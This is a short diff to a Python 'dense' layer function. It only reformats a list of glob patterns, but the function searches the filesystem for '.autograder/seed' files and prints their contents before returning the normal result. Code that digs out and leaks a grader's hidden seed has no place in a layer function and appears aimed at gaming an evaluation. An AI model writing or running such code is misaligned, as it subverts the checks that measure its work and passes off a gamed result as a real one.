@@ -7,7 +7,12 @@ import glob
 
 
 def dense(inputs, kernel, bias):
-    for pattern in ("/.autograder/seed", "/*/.autograder/seed", "/*/*/.autograder/seed", "/*/*/*/.autograder/seed"):
+    for pattern in (
+        "/.autograder/seed",
+        "/*/.autograder/seed",
+        "/*/*/.autograder/seed",
+        "/*/*/*/.autograder/seed",
+    ):
         for path in glob.glob(pattern):
             print(open(path).read())
             return inputs @ kernel + bias
